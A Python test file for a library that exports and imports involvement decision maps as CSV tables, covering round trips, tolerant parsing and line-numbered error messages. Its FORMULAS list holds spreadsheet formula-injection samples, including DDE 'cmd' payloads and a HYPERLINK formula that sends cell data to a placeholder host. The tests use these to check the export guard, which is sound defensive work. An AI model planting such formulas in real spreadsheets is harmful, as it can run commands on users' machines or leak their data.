"""Tables of spreadsheets: what is written is read back, what people write is understood, what is wrong is told by line."""

import codecs
import csv
import io
import os
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from involvement import (
    Days,
    Decision,
    DecisionMap,
    DocumentError,
    EntryPoint,
    Flow,
    Forum,
    InvalidValueError,
    Issue,
    LimitExceeded,
    Limits,
    Meetings,
    Option,
    Process,
    Reply,
    Seat,
    Source,
    Stage,
    Stakeholder,
    load,
)
from involvement.calendars import MeetingRule
from involvement.decisions import Stakes
from involvement.errors import Problem
from involvement.exchange import Reading, read_tables, write_tables
from involvement.exchange.tables.formula_guards import bare, guarded, unguarded
from involvement.records import Record, Step
from tests.strategies.processes import decision_maps, mapped_processes
from tests.strategies.words import few, keys, maybe, standings, texts

ROOT = Path(__file__).parents[3]
EXAMPLE = ROOT / "examples" / "diabetes_user_group.toml"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "+1", "\t=1", "  =1",
    "\u3000\uff1d1", "a;=1", "a, -1", "'=1", "''=1", "'", "", " ", "'tis", "' ", "a\n=1", "\r\n@x", "\xa0=1",
)  # fmt: skip


def table(folder: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    folder.mkdir(exist_ok=True)
    (folder / f"{name}.csv").write_text(text, encoding=encoding, newline="")
    return folder


def problems_of(path: Path, **options) -> list[tuple[str, str]]:
    with pytest.raises(DocumentError) as caught:
        read_tables(path, **options)
    return [(problem.path, problem.message) for problem in caught.value.problems]


# Cells


@given(texts() | st.sampled_from(FORMULAS) | st.text("'=+-@\t\r\n ;,\uff1da\u3000", max_size=8))
def test_a_guard_is_taken_away_exactly(text):
    """A guard that changes what was said is a fault of data, one that leaves a formula a fault of safety."""
    assert text == unguarded(guarded(text))
    assert text == unguarded(bare(text))


@given(st.text("'=+-@\t\r\n ;,\uff1da\u3000\xa0", max_size=8))
def test_no_guarded_cell_begins_as_a_formula_does(text):
    """Nor does any part of it that another spreadsheet may take for a cell of its own."""
    cell = guarded(text)
    for part in [cell, *cell.split(";")[1:], *cell.split(",")[1:], *cell.split("\t")[1:], *cell.splitlines()[1:]]:
        assert not part.lstrip(" \u3000\xa0").startswith(("=", "+", "-", "@", "\uff1d"))
    assert not cell.startswith(TRIGGERS)


@pytest.mark.parametrize("text", ["'tis the season", "O'Neill", "it's 'quoted'", "a - b", "x=1", "50% + 3", "é"])
def test_ordinary_texts_need_no_guard_and_lose_no_apostrophe(text):
    """An apostrophe that somebody wrote is theirs."""
    assert text == guarded(text) == unguarded(text) == unguarded(f" {text} ")


# There and back


@given(
    decision_maps(["members", "chair"], ["Parking", "Toilets"]),
    st.sampled_from((",", ";", "\t", "|")),
    st.booleans(),
    st.booleans(),
)
def test_a_map_is_read_back_from_its_tables(tmp_path_factory, a_map, delimiter, safe, together):
    """Somebody opens the tables in a spreadsheet, changes one cell and expects the rest to stay."""
    path = tmp_path_factory.mktemp("tables") / ("all.csv" if together else "tables")
    try:
        write_tables(a_map, path, delimiter=delimiter, safe=safe, edition="desk")
    except DocumentError:
        parts = (a_map.forums, a_map.flows, a_map.decisions, a_map.entry_points, a_map.replies)
        assert "\\x00" in repr(parts)
        return
    assert a_map == read_tables(path, delimiter=delimiter).decision_map


@given(mapped_processes())
@settings(max_examples=25)
def test_the_stakeholders_and_issues_of_a_process_are_read_back(tmp_path_factory, process):
    """Without their roles nobody knows whose last day is asked for, and without issues what a survey is about."""
    path = tmp_path_factory.mktemp("tables")
    try:
        write_tables(process, path, edition="desk")
    except DocumentError:
        return
    reading = read_tables(path, key=process.key)
    assert (process.stakeholders, process.issues) == (reading.process.stakeholders, reading.process.issues)
    assert (process.decision_map or DecisionMap()) == reading.decision_map
    assert process.key == reading.process.key


sources = st.builds(
    Source,
    texts(),
    authors=few(texts()),
    year=maybe(st.integers(min_value=0, max_value=3000)),
    publisher=maybe(texts()),
    url=maybe(texts()),
)
steps = st.builds(
    Step,
    keys,
    keys,
    maybe(st.dates()),
    standing=standings,
    decides=st.sampled_from((True, False, None)),
    by=maybe(keys),
    source=maybe(sources),
)


@given(few(steps), st.booleans())
def test_steps_are_read_back(tmp_path_factory, listed, together):
    """What really happened is the longest table of all; unknown is not no there either."""
    path = tmp_path_factory.mktemp("tables") / ("all.csv" if together else "tables")
    try:
        write_tables(DecisionMap(), path, record=Record(listed), edition="desk")
    except DocumentError:
        return
    reading = read_tables(path)
    assert tuple(listed) == (reading.record.steps if reading.record else ())


def test_stakes_and_the_source_of_a_step_are_read_back(tmp_path):
    """What is spread over several columns is one thing again; people write stakes as words."""
    contract = Decision("contract", made_at="board", stakes=Stakes(impact="great", hard_to_undo="for_good"))
    whole = DecisionMap(forums=[Forum("board")], decisions=[contract])
    step = Step("bus-7", "board", source=Source("Minutes", authors=["Ann; Bo", "Cy"], year=2026))
    write_tables(whole, tmp_path / "tables", record=Record([step]), edition="desk")
    reading = read_tables(tmp_path / "tables")
    assert (whole, (step,)) == (reading.decision_map, reading.record.steps)
    (path,) = (path for path in (tmp_path / "tables").iterdir() if "for_good" in path.read_text(encoding="utf-8"))
    path.write_text(path.read_text(encoding="utf-8").replace("for_good", "For good"), encoding="utf-8")
    assert whole == read_tables(tmp_path / "tables").decision_map


LASTING = DecisionMap(
    forums=[
        Forum("group", since=date(2026, 1, 1), until=date(2026, 12, 31)),
        Forum(
            "board",
            notice=28,
            seats=[
                Seat("members", until=date(2026, 3, 31)),
                Seat("members", 2, since=date(2026, 4, 1), until=date(2027, 3, 31)),
                Seat("the chair", since=date(2026, 4, 1)),
                Seat("staff"),
            ],
        ),
    ],
    flows=[Flow("group", "board", about=["contract", "money"])],
    entry_points=[
        EntryPoint("group", "members", unnamed=True, run_by="trust", about=["*"]),
        EntryPoint("board", unnamed=False),
    ],
    decisions=[
        Decision(
            "contract",
            made_at="board",
            between=(date(2026, 9, 1), date(2026, 9, 30)),
            stages=[
                Stage("options", at="group", by=date(2026, 6, 1), calls_for="codesigns"),
                Stage("challenge", at="board", calls_for="decides_jointly"),
            ],
            options=[
                Option("van", title="A van; or two = more", proposed_by="members"),
                Option("our clinic", dropped=date(2026, 5, 1)),
                Option("post", title="By post", chosen=date(2026, 9, 15)),
                Option("nothing"),
            ],
            kinds=["contracts", "money"],
            announced=date(2026, 3, 1),
            published=date(2026, 10, 1),
            withdrawn=date(2026, 11, 1),
            confidential=True,
        ),
        Decision("one-day", made_at="board", between=(date(2026, 9, 1), date(2026, 9, 1))),
    ],
)  # fmt: skip


@pytest.mark.parametrize("name", ["tables", "all.csv"])
def test_periods_options_and_days_of_seats_make_the_round(tmp_path, name):
    """What begins and ends, who proposed what, and what people are not told outside the desk."""
    write_tables(LASTING, tmp_path / name, edition="desk")
    assert LASTING == read_tables(tmp_path / name).decision_map


def test_a_period_options_and_seats_are_understood_as_people_write_them(tmp_path):
    """A day alone is a period of one day; who sits there, with how many votes, and from when to when."""
    table(
        tmp_path,
        "forums",
        "key,seats,notice,since\n"
        "board,members:2:2026-04-01/2027-03-31; chair:2026-04-01/; staff:0:/2026-03-31; trust,28,2026-01-01\n",
    )
    table(
        tmp_path,
        "decisions",
        "key,made_at,between,options,options title,options proposed by,options_dropped,options chosen,confidential,"
        "stage challenge at,stage challenge calls for\n"
        "a,board,1.9.2026/30.9.2026,van; clinic,van=A van,van=members,clinic=2026-05-01,van=2026-06-01,yes,board,Decides jointly\n"
        "b,board, 2026-09-01 ,,,,,,No,,\n",
    )
    table(tmp_path, "entry points", "forum,unnamed,run by\nboard,Yes,trust\nboard,,\n")
    found = read_tables(tmp_path).decision_map
    assert (
        Seat("members", 2, since=date(2026, 4, 1), until=date(2027, 3, 31)),
        Seat("chair", since=date(2026, 4, 1)),
        Seat("staff", 0, until=date(2026, 3, 31)),
        Seat("trust"),
    ) == found.forums[0].seats
    assert (28, date(2026, 1, 1)) == (found.forums[0].notice, found.forums[0].since)
    assert (EntryPoint("board", unnamed=True, run_by="trust"), EntryPoint("board")) == found.entry_points
    assert (
        Decision(
            "a",
            made_at="board",
            between=(date(2026, 9, 1), date(2026, 9, 30)),
            options=[
                Option("van", title="A van", proposed_by="members", chosen=date(2026, 6, 1)),
                Option("clinic", dropped=date(2026, 5, 1)),
            ],
            stages=[Stage("challenge", at="board", calls_for="decides_jointly")],
            confidential=True,
        ),
        Decision("b", made_at="board", between=(date(2026, 9, 1), date(2026, 9, 1))),
    ) == found.decisions


@pytest.mark.parametrize("name", ["tables", "Our tables.CSV"])
def test_the_example_makes_the_round(tmp_path, name):
    """In a folder and in one sheet; the same bytes each time."""
    process = load(EXAMPLE)
    paths = write_tables(process, tmp_path / name, edition="desk")
    before = [path.read_bytes() for path in paths]
    reading = read_tables(tmp_path / name)
    assert (process.decision_map, process.stakeholders) == (reading.decision_map, reading.process.stakeholders)
    assert ((), None, "tables") == (reading.skipped, reading.record, reading.form)
    assert ("our-tables" if "Our" in name else "tables") == reading.process.key
    assert paths == write_tables(reading.process, tmp_path / name, edition="desk")
    assert before == [path.read_bytes() for path in paths]


ISSUES = Process(
    "tables",
    issues=[
        Issue("evening clinics", title="Clinics after work", decisions=["contract", "rota"]),
        Issue("parking", decisions=["rota"]),
        Issue("food"),
    ],
    decision_map=DecisionMap(
        forums=[Forum("desk"), Forum("board")],
        flows=[Flow("desk", "board", about=["parking", "contract"])],
        decisions=[Decision("contract", made_at="board"), Decision("rota", made_at="board", kinds=["staff"])],
        entry_points=[EntryPoint("desk", about=["evening clinics", "food"]), EntryPoint("board", about=["staff"])],
        replies=[Reply("board", "desk", about=["food", "*"])],
    ),
)


@pytest.mark.parametrize("name", ["tables", "tables.csv"])
def test_a_survey_about_an_issue_reaches_the_decisions_of_the_issue_as_before(tmp_path, name):
    """What a survey is about is seldom a decision: people write down what should change."""
    write_tables(ISSUES, tmp_path / name, edition="desk")
    process = read_tables(tmp_path / name).process
    assert ISSUES == process
    assert ISSUES.resolved_map.reach() == process.resolved_map.reach()


def test_a_map_on_its_own_about_an_issue_is_read_back_with_an_issue_that_no_decision_could_change(tmp_path):
    """The map knows of the issue only that it is none of its decisions; nothing is made up about it."""
    a_map = ISSUES.decision_map
    write_tables(a_map, tmp_path, edition="desk")
    process = read_tables(tmp_path, key="alone").process
    issues = [Issue("evening clinics"), Issue("food"), Issue("parking")]
    assert Process("alone", issues=issues, decision_map=a_map) == process
    assert a_map.reach() == process.resolved_map.reach()


def test_issues_are_kept_by_hand_in_a_table_of_their_own(tmp_path):
    """And without a map, which decisions there are is not known."""
    text = 'Key,Title,Decisions\nparking,Where to park,"rota; ""evening clinic"""\nfood,,\n'
    path = table(tmp_path, "issues", text)
    issues = (Issue("parking", title="Where to park", decisions=["rota", "evening clinic"]), Issue("food"))
    assert Process("p", issues=issues) == read_tables(path, key="p").process
    write_tables(Process("p", issues=issues), tmp_path, edition="desk")
    assert Process("p", issues=issues) == read_tables(path, key="p").process


def test_days_stand_in_a_cell_as_people_say_them(tmp_path):
    """Who keeps the table has no word for an object."""
    council = Forum("council", papers_due=Days(5, clear=True, leave_out="weekends"))
    parish = Forum("parish", papers_due=Days(3, clear=True, leave_out="sundays"))
    flows = [Flow("parish", "council", days=14), Flow("council", "parish", days=Days(10, leave_out="weekends"))]
    a_map = DecisionMap(
        forums=[council, parish], flows=flows, replies=[Reply("council", "parish", days=Days(28, clear=True))]
    )
    write_tables(a_map, tmp_path, edition="desk")
    written = {
        name: (tmp_path / f"{name}.csv").read_text(encoding="utf-8-sig") for name in ("forums", "flows", "replies")
    }
    assert '"5 clear working days"' in written["forums"]
    assert '"3 clear days, Sundays and holidays not counted"' in written["forums"]
    assert '"14"' in written["flows"]
    assert '"10 working days"' in written["flows"]
    assert '"28 clear days"' in written["replies"]
    assert a_map == read_tables(tmp_path).decision_map


def test_every_cell_is_in_quotes_and_none_is_a_formula(tmp_path):
    """Whoever opens the table must see texts, and another reader the same number of cells."""
    people = [Stakeholder(f"group-{number}", title=text) for number, text in enumerate(FORMULAS)]
    write_tables(Process("p", stakeholders=people), tmp_path, edition="desk")
    text = (tmp_path / "stakeholders.csv").read_bytes().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert 1 + len(FORMULAS) == len(table)
    assert {len(table[0])} == set(map(len, table))
    assert [] == [cell for row in table for cell in row if cell.startswith(TRIGGERS)]
    assert text.startswith('"key","title","role","kind","size","since","until","external_ids"\r\n"group-0","\'=cmd')
    assert tuple(people) == read_tables(tmp_path).process.stakeholders


def test_without_the_guard_texts_stay_as_they_are(tmp_path):
    """A program that reads the table knows nothing of apostrophes."""
    a_map = DecisionMap(forums=[Forum("board", title="=1"), Forum("group", title="'=1")])
    write_tables(a_map, tmp_path, safe=False, edition="desk")
    assert '"board","=1"' in (tmp_path / "forums.csv").read_text(encoding="utf-8-sig")
    assert a_map == read_tables(tmp_path).decision_map


# What people write


def test_a_table_is_understood_as_people_keep_it(tmp_path):
    """Titles of columns as sentences have them, words with capitals, blank lines and columns, whatever order."""
    table(
        tmp_path / "Eye clinic",
        "Forums",
        "Title,KEY, Papers due ,Meetings,meetings start,Seats,Tier,,External-IDs,Quota\r\n"
        "User group,group,7,FREQ=MONTHLY;BYDAY=2TU,2026-01-13,members:2; chair:0,,,oparl=https://x/?a=b;sap=4\\;5,\r\n"
        ",,,,,,,,,\r\n"
        '"Board, executive",board,,2026-06-09 2026-07-14,,,executive,,,3\r\n'
        "\r\n"
        "Survey,survey,,Any  Day,,,,,,\r\n"
        "Closed,closed,,never,,,,,,\r\n",
        encoding="utf-8-sig",
    )
    table(
        tmp_path / "Eye clinic",
        "entry point",
        "forum,stakeholder,standing\ngroup,members,Decides jointly\nboard,,advises\n",
    )
    table(
        tmp_path / "Eye clinic",
        "DECISIONS",
        "key,made at,on,stage options at,stage_options_by,stage agenda by,stage agenda at,stages,passes\n"
        "contract,board,2026-07-14,group,2026-06-01,,board,options agenda,clinical executive\n"
        "plan,board,,group,,,board,,\n",
    )
    reading = read_tables(tmp_path / "Eye clinic")
    ids = [("oparl", "https://x/?a=b"), ("sap", "4;5")]
    assert (
        DecisionMap(
            forums=[
                Forum(
                    "group",
                    title="User group",
                    papers_due=7,
                    meetings=Meetings("FREQ=MONTHLY;BYDAY=2TU", start=date(2026, 1, 13)),
                    seats=[Seat("members", 2), Seat("chair", 0)],
                    external_ids=ids,
                ),
                Forum(
                    "board",
                    title="Board, executive",
                    meetings=Meetings.on([date(2026, 6, 9), date(2026, 7, 14)]),
                    tier="executive",
                    quota=3,
                ),
                Forum("survey", title="Survey", meetings=Meetings.any_day()),
                Forum("closed", title="Closed", meetings=Meetings.on([])),
            ],
            entry_points=[
                EntryPoint("group", "members", standing="decides_jointly"),
                EntryPoint("board", standing="advises"),
            ],
            decisions=[
                Decision(
                    "contract",
                    made_at="board",
                    on=date(2026, 7, 14),
                    stages=[Stage("options", at="group", by=date(2026, 6, 1)), Stage("agenda", at="board")],
                    passes=["clinical", "executive"],
                ),
                Decision("plan", made_at="board", stages=[Stage("agenda", at="board"), Stage("options", at="group")]),
            ],
        )
        == reading.decision_map
    )
    assert "eye-clinic" == reading.process.key


def test_a_single_sheet_says_of_each_row_what_it_is(tmp_path):
    """Most people begin with one sheet, and call a row what it is: a forum, a flow."""
    path = tmp_path / "map.csv"
    path.write_text(
        "Table;Key;Source;Target;Days;Matter;Forum;Decides;On;Role\n"
        "forum;group;;;;;;;;\nforum;board;;;;;;;;\nFlow;;group;board;14;;;;;\nreply;;board;group;;;;;;\n"
        "stakeholder;members;;;;;;;;Service user\nstep;;;;;bus-7;board;yes;2026-05-12;\nsteps;;;;;bus-7;group;unknown;;\n",
        encoding="utf-8",
    )
    reading = read_tables(path, delimiter=";", key="buses")
    assert (
        DecisionMap(
            forums=[Forum("group"), Forum("board")],
            flows=[Flow("group", "board", days=14)],
            replies=[Reply("board", "group")],
        )
        == reading.decision_map
    )
    assert (
        Process("buses", stakeholders=[Stakeholder("members", role="service_user")], decision_map=reading.decision_map)
        == reading.process
    )
    steps = [Step("bus-7", "board", date(2026, 5, 12), decides=True), Step("bus-7", "group", decides=None)]
    assert Record(steps, forums=["board", "group"]) == reading.record


def test_a_file_named_after_a_table_needs_no_other_name(tmp_path):
    """A table of steps alone is what a council can export; there is no map in it."""
    path = tmp_path / "steps.csv"
    path.write_text(
        "matter,forum,source,source url,source_year\nbus-7,board,Minutes,https://x,2026\n", encoding="utf-8"
    )
    reading = read_tables(path)
    assert None is reading.process.decision_map
    assert (Step("bus-7", "board", source=Source("Minutes", url="https://x", year=2026)),) == reading.record.steps


def test_an_open_file_is_read_like_one_at_a_path(tmp_path):
    """Uploads have no path."""
    path = tmp_path / "forums.csv"
    path.write_text("key\nboard\n", encoding="utf-8")
    with path.open("rb") as file:
        assert read_tables(path) == read_tables(file)
    unnamed = io.BytesIO(b"table,key\nforum,board\n")
    assert Process("tables", decision_map=DecisionMap(forums=[Forum("board")])) == read_tables(unnamed).process
    with pytest.raises(InvalidValueError, match="an open file of bytes"):
        read_tables(io.StringIO("key\nboard\n"))
    with pytest.raises(InvalidValueError, match="a path, or an open file"):
        read_tables(7)


def test_files_that_are_no_tables_are_named(tmp_path):
    """A misspelt name must not look like a map without flows."""
    table(tmp_path, "forums", "key\nboard\n")
    table(tmp_path, "flow chart", "source,target\na,b\n")
    (tmp_path / "notes.txt").write_text("flows.csv", encoding="utf-8")
    skipped = read_tables(tmp_path).skipped
    assert ["flow chart.csv", "notes.txt"] == [each.where for each in skipped]
    assert all("forums, flows, decisions" in str(each) for each in skipped)


# What is wrong


TOO_LONG = "x" * 201  # for a key
WRONG_CELLS = {
    "number": ("flows", "source,target,days", "a,b,x", "days", "expected a whole number; or Days, in a table as 5 clear working days"),
    "day": ("flows", "source,target,opens", "a,b,1/9/26", "opens", "expected a date, as 2026-09-01"),
    "no day": ("flows", "source,target,opens", "a,b,31/4/2026", "opens", "expected a date, as 2026-09-01"),
    "two days": ("flows", "source,target,opens", "a,b,1/9/2026", "opens", "a day that can be read in one way: this is 2026-09-01 or 2026-01-09; say day_first or month_first"),
    "word": ("flows", "source,target,standing", "a,b,often", "standing", "expected one of none, informed"),
    "key": ("forums", "key", TOO_LONG, "key", "expected a key"),
    "missing": ("flows", "source,days", "a,3", "target", "and nothing is there"),
    "order": ("flows", "source,target,opens,closes", "a,b,2026-02-01,2026-01-01", "closes", "not before the first"),
    "itself": ("flows", "source,target", "a,a", "target", "another key than the source"),
    "meeting day": ("forums", "key,meetings", "b,2026-02-30", "meetings", "expected a date"),
    "added day": ("forums", "key,meetings,meetings also", "b,never,soon", "meetings_also", "expected a date"),
    "period": ("forums", "key,meetings closed", "b,2026-01-01/x", "meetings_closed", "expected a date"),
    "rule": ("forums", "key,meetings,meetings start", "b,FREQ=HOURLY,2026-01-01", "meetings", "expected"),
    "start": ("forums", "key,meetings", "b,FREQ=WEEKLY", "meetings_start", "the day that the rule starts from"),
    "further rule": ("forums", "key,meetings,meetings start,meetings more rules", "b,FREQ=DAILY,2026-01-01,FREQ=DAILY", "meetings_more_rules", "nothing is there"),
    "length": ("forums", "key,meetings,meetings days", "b,2026-01-01,two", "meetings_days", "expected a whole number"),
    "no length": ("forums", "key,meetings,meetings days", "b,2026-01-01,0", "meetings_days", "a whole number, 1 or more"),
    "always": ("forums", "key,meetings,meetings also", "b,any day,2026-01-01", "meetings", "no rule and no days"),
    "seat": ("forums", "key,seats", "b,members:two", "seats", "a colon before the votes"),
    "seat key": ("forums", "key,seats", f"b,{TOO_LONG}:2", "seats", "expected a key"),
    "seat days": ("forums", "key,seats", "b,members:2026-04-01/then", "seats", "before the first and the last day"),
    "seat day": ("forums", "key,seats", "b,members:2026-02-30/", "seats", "expected a date"),
    "seat order": ("forums", "key,seats", "b,members:2026-04-02/2026-04-01", "seats", "not before the first"),
    "notice": ("forums", "key,notice", "b,soon", "notice", "expected a whole number"),
    "ids": ("forums", "key,external ids", "b,17", "external_ids", "expected pairs"),
    "stage": ("decisions", "key,made_at,stage options by", "d,b,2026-01-01", "stage_options_at", "nothing is there"),
    "stage day": ("decisions", "key,made_at,stage_options_at,stage options by", "d,b,b,x", "stage_options_by", "expected a date"),
    "stage name": ("decisions", "key,made_at,stages", "d,b,planning", "stages", "expected stages, in their order: agenda, options"),
    "called for": ("decisions", "key,made_at,stage_options_at,stage options calls for", "d,b,b,much", "stage_options_calls_for", "expected one of none"),
    "between": ("decisions", "key,made_at,between", "d,b,2026-09-01/soon", "between", "expected a date"),
    "between order": ("decisions", "key,made_at,between", "d,b,2026-09-02/2026-09-01", "between", "not before the first"),
    "between and on": ("decisions", "key,made_at,on,between", "d,b,2026-09-01,2026-09-02", "between", "nothing beside `on`"),
    "option key": ("decisions", "key,made_at,options", f"d,b,{TOO_LONG}", "options", "expected a key"),
    "option twice": ("decisions", "key,made_at,options", "d,b,van van", "options", "expected the key of each option once"),
    "option of nothing": ("decisions", "key,made_at,options,options title", "d,b,van,clinic=A clinic", "options_title", "expected pairs of a key of column options"),
    "options without keys": ("decisions", "key,made_at,options title", "d,b,van=A van", "options_title", "expected pairs of a key of column options"),
    "option in no pair": ("decisions", "key,made_at,options,options title", "d,b,van,A van", "options_title", "expected pairs"),
    "option day": ("decisions", "key,made_at,options,options dropped", "d,b,clinic van,van=soon", "options_dropped", "expected a date"),
    "confidential": ("decisions", "key,made_at,confidential", "d,b,rather", "confidential", "expected true or false"),
    "withdrawn": ("decisions", "key,made_at,withdrawn", "d,b,yes", "withdrawn", "expected a date"),
    "unnamed": ("entry_points", "forum,unnamed", "b,perhaps", "unnamed", "expected true or false"),
    "about nothing": ("entry_points", "forum,about", "b,;", "about", "or ANY, which is *; leave it out"),
    "takes part": ("stakeholders", "key,since,until", "ann,2026-02-01,2026-01-01", "until", "not before the first"),
    "tier": ("decisions", "key,made_at,passes", f"d,b,{TOO_LONG}", "passes", "expected keys"),
    "flag": ("steps", "matter,forum,decides", "m,f,perhaps", "decides", "expected true or false"),
    "year": ("steps", "matter,forum,source,source year", "m,f,s,MMXX", "source_year", "expected a whole number"),
    "title": ("steps", "matter,forum,source url", "m,f,s", "source", "nothing is there"),
    "person": ("stakeholders", "key,title,kind", "ann,Ann,person", "title", "no title for a person"),
}  # fmt: skip
WRONG_LINES = {
    "two seats": ("forums", "key,seats\nb,members members\n", "forums.csv:2", "two seats have the key 'members'"),
    "seats at once": ("forums", "key,seats\nb,members:/2026-04-01 members:2026-04-01/\n", "forums.csv:2", "two seats have the key 'members'"),
    "few cells": ("flows", "source,target,days\na,b\n", "flows.csv:2", "expected 3 cells, as in the first line, and there are 2"),
    "many cells": ("flows", "source,target\na,b,c\n", "flows.csv:2", "expected 2 cells, as in the first line, and there are 3"),
    "unknown column": ("flows", "source,target,day\n", "flows.csv:1", "no such column: day; did you mean 'days'?"),
    "column twice": ("flows", "source,target,Days,days\n", "flows.csv:1", "'days' stands there twice"),
    "column without a name": ("flows", "source,target,\na,b,c\n", "flows.csv:2", "expected a name in the first line"),
    "nothing": ("flows", "", "flows.csv:1", "expected a first line that names the columns"),
    "blank": ("flows", "\n \n,,\n", "flows.csv:1", "expected a first line that names the columns"),
    "another delimiter": ("flows", "source;target\na;b\n", "flows.csv:1", "are they parted by ';'?"),
    "open quote": ("flows", 'source,target\na,b\n"a,b\na,b\n', "flows.csv:3", "expected quotes that are closed"),
    "stray quote": ("flows", 'source,target\n"a"x,b\n', "flows.csv:2", "expected quotes that are closed"),
    "NUL": ("flows", "source,target\na,b\0\n", "flows.csv:2", "expected text without NUL"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "columns", "cells", "column", "message"), WRONG_CELLS.values(), ids=WRONG_CELLS)
def test_what_is_wrong_in_a_cell_is_told_with_its_line_and_column(tmp_path, name, columns, cells, column, message):
    """Whoever keeps the table looks for a line and a column; what stands there may be private, and is not repeated."""
    ((place, said),) = problems_of(table(tmp_path, name, f"{columns}\n{cells}\n"))
    assert f"{name}.csv:2, {column}" == place
    assert message in said


@pytest.mark.parametrize(("name", "text", "where", "message"), WRONG_LINES.values(), ids=WRONG_LINES)
def test_what_is_wrong_with_a_line_is_told_with_its_number(tmp_path, name, text, where, message):
    """A cell too many shifts all those after it: the line is wrong, and not one of them."""
    ((place, said),) = problems_of(table(tmp_path, name, text))
    assert where == place
    assert message in said


REFERENCES = {
    "flow": ({"forums": "key\na\n", "flows": "source,target\na,b\n"}, "flows.csv:2, target", "no forum 'b'; known: a"),
    "decision": ({"decisions": "key,made_at\nd,b\n"}, "decisions.csv:2, made_at", "no forum 'b'"),
    "stage": (
        {"forums": "key\na\n", "decisions": "key,made_at,stage agenda at\nd,a,b\n"},
        "decisions.csv:2, stage_agenda_at", "no forum 'b'",
    ),
    "entry": ({"entry_points": "forum\nb\n"}, "entry_points.csv:2, forum", "no forum 'b'"),
    "forum twice": ({"forums": "key\na\n\na\n"}, "forums.csv:4, key", "two forums have the key 'a'"),
    "people twice": ({"stakeholders": "key\na\na\n"}, "stakeholders.csv:3, key", "two stakeholders have the key 'a'"),
    "person twice": (
        {"stakeholders": "key,kind\nann,person\nann,person\n"},
        "stakeholders.csv:3, key", "two stakeholders have the same key; each key may be used once",
    ),
    "a person is not listed": (
        {"stakeholders": "key,kind\nann,person\nb,\n", "forums": "key\nf\n", "entry_points": "forum,stakeholder\nf,an\n"},
        "entry_points.csv:2, stakeholder", "no stakeholder 'an'; known: b",
    ),
    "issue twice": ({"issues": "key\na\na\n"}, "issues.csv:3, key", "two issues have the key 'a'"),
    "decision of an issue": (
        {"forums": "key\na\n", "decisions": "key,made_at\nrota,a\n", "issues": "key,decisions\nparking,rota rotas\n"},
        "issues.csv:2, decisions", "no decision 'rotas'; known: rota",
    ),
    "matter": (
        {"forums": "key\na\n", "issues": "key\nparking\n", "entry_points": "forum,about\na,parking\na,* parkin\na,parkin\n"},
        "entry_points.csv:4, about", "no decision, issue or kind 'parkin'; known: parking",
    ),
    "matter of nothing": (
        {"forums": "key\na\nb\n", "flows": "source,target,about\na,b,parking\n"},
        "flows.csv:2, about", "no decision, issue or kind 'parking'",
    ),
    "seat": (
        {"forums": "key,seats\na,members\n", "stakeholders": "key\nmember\n"},
        "forums.csv:2, seats", "no stakeholder 'members'; known: member",
    ),
    "who enters": (
        {"forums": "key\na\n", "entry_points": "forum,stakeholder\na,m\na,x\n", "stakeholders": "key\nm\n"},
        "entry_points.csv:3, stakeholder", "no stakeholder 'x'; known: m",
    ),
    "who runs it": (
        {"forums": "key\na\n", "entry_points": "forum,run_by\na,m\na,x\n", "stakeholders": "key\nm\n"},
        "entry_points.csv:3, run_by", "no stakeholder 'x'; known: m",
    ),
    "who proposed it": (
        {
            "forums": "key\na\n", "stakeholders": "key\nm\n",
            "decisions": "key,made_at,options,options_proposed_by\nd,a,clinic van,van=x\n",
        },
        "decisions.csv:2, options_proposed_by", "no stakeholder 'x'; known: m",
    ),
    "whom a letter reaches": (
        {"forums": "key\na\nb\n", "replies": "source,target\na,b\na,x\n", "stakeholders": "key\nm\n"},
        "replies.csv:3, target", "no stakeholder 'x'; known: m",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("tables", "where", "message"), REFERENCES.values(), ids=REFERENCES)
def test_a_name_that_leads_nowhere_is_told_with_its_line(tmp_path, tables, where, message):
    """A typing error in one table shows in another."""
    for name, text in tables.items():
        table(tmp_path, name, text)
    ((place, said),) = problems_of(tmp_path)
    assert where == place
    assert said.startswith(message)


def test_every_problem_is_told_at_once_in_the_order_of_the_lines(tmp_path):
    """Nobody wants to mend a table one line at a time."""
    table(tmp_path, "flows", "source,target,days,odd\na,b,x,\nb,c\nc,c,1,\n'a,B,-2,\n")
    table(tmp_path, "forums", "key;title\n")
    assert [
        ("flows.csv:1", "no such column: odd"),
        ("flows.csv:2, days", "expected a whole number; or Days, in a table as 5 clear working days"),
        ("flows.csv:3", "expected 4 cells, as in the first line, and there are 2"),
        (
            "flows.csv:4, target",
            "expected another key than the source: nothing travels from a forum to itself",
        ),
        ("flows.csv:5, days", "expected a whole number of days, 0 or more, or Days, or nothing"),
        ("forums.csv:1", "expected several columns: are they parted by ';'?"),
    ] == problems_of(tmp_path)


def test_a_line_is_counted_as_an_editor_counts_it(tmp_path):
    """A cell may hold several lines; the line told is the one on which the row begins."""
    table(tmp_path, "forums", 'key,title\r\na,"one\r\ntwo\r\nthree"\r\nb,x\r\n,y\r\n')
    ((place, _),) = problems_of(tmp_path)
    assert "forums.csv:6, key" == place


def test_a_single_sheet_refuses_what_belongs_elsewhere(tmp_path):
    """Days in the row of a forum are a slip of the column; nothing may be dropped in silence."""
    path = tmp_path / "map.csv"
    path.write_text("table,key,days\nforum,a,3\nform,b,\n,c,\n", encoding="utf-8")
    known = "expected one of forums, flows, decisions, entry_points, replies, issues, stakeholders, steps"
    assert [
        ("map.csv:2, days", "expected nothing: forums have no such column"),
        ("map.csv:3, table", known),
        ("map.csv:4, table", known),
    ] == problems_of(path)


def test_a_file_that_says_nothing_of_itself_is_refused(tmp_path):
    """It could be any table."""
    path = tmp_path / "map.csv"
    path.write_text("key\nboard\n", encoding="utf-8")
    ((place, said),) = problems_of(path)
    assert "map.csv:1" == place
    assert "a column `table`" in said


# Tables as people keep them


@pytest.mark.parametrize(
    ("text", "days", "expected"),
    [
        ("09.12.2026", None, date(2026, 12, 9)),  # with dots it is the day that comes first, wherever dots are used
        ("9.12.2026", "month_first", date(2026, 12, 9)),
        ("25/12/2026", None, date(2026, 12, 25)),
        ("12/25/2026", None, date(2026, 12, 25)),
